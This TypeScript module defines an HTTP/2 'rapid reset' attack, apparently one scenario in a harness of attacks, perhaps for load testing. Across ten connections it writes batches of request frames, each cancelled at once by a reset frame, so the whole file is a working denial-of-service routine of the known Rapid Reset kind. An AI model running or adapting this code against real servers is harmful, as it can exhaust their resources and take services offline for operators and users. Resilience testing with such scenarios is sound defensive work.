import { request, reset } from "../../wire/frames.ts";
import type { Attack } from "../attack.ts";
import { sharedAt } from "./requests.ts";

/** Begins subscriptions and resets them at once, many in one write. */
export const rapidReset: Attack = {
  name: "rapid reset",
  version: "HTTP/2",
  load: { connections: 10, subscriptions: 1_000 },
  async run(scene) {
    let socket = scene.openFrames();
    let next = 1;
    await scene.repeat(40, () => {
      if (socket.closed) {
        socket = scene.openFrames();
        next = 1;
      }
      const frames: Buffer[] = [];
      for (let count = 0; count < 25; count += 1, next += 2) {
        frames.push(request(next, "GET", sharedAt(count), [["accept-events", '"prep"']]), reset(next));
      }
      socket.write(Buffer.concat(frames));
    });
  },
};
